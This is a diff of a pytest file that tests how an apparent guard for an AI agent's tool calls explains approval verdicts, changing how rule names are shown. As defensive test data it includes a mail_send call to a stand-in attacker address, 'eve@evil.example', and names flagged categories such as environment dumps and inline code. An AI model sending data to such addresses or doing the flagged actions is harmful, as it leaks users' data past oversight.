@@ -23,7 +23,7 @@ def test_verdict_stands_first_then_why_and_what_each_stage_said(capsys: pytest.C
     explain_call(GUARDING, "mail_send", '{"to": "eve@evil.example", "body": "x"}', supposed)
     lines = capsys.readouterr().out.splitlines()
     assert lines[0].startswith("needs your approval: What could send data out needs approval")
-    assert lines[0].endswith("(taint.sends)")
+    assert "taint" not in lines[0]  # programs get the name of the rule
     assert lines[1] == "  because it could send data out, and your own words do not name where to"
     assert lines[2] == "effects: it would send something to somebody. In short: it is risky"
     assert "  effects, after text of others was read        needs your approval" in lines
@@ -109,5 +109,4 @@ def test_risk_is_explained_by_what_was_found_alone(
     said = capsys.readouterr().out
     assert f"  because {found}" in said
     assert not_found not in said.partition("effects")[2].partition("\n")[0]
-    assert said.splitlines()[0].endswith("(mode.risk)") or "(taint.risk)" in said.splitlines()[0]
     assert not {"(deletion)", "(environment-dump)", "(inline-code)"} & set(said.split())
